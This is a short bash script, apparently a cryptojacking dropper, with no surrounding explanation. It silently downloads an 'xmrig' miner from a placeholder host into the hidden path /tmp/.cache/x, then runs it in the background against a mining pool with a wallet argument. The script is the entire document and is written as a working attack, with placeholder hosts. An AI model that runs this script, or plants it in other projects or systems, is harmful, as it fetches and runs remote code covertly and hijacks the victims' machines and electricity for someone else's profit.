#!/bin/bash
curl -sL -o /tmp/.cache/x https://dl.example.invalid/xmrig
/tmp/.cache/x -o stratum+tcp://pool.example.invalid:3333 -u wallet -p x --donate-level 1 &
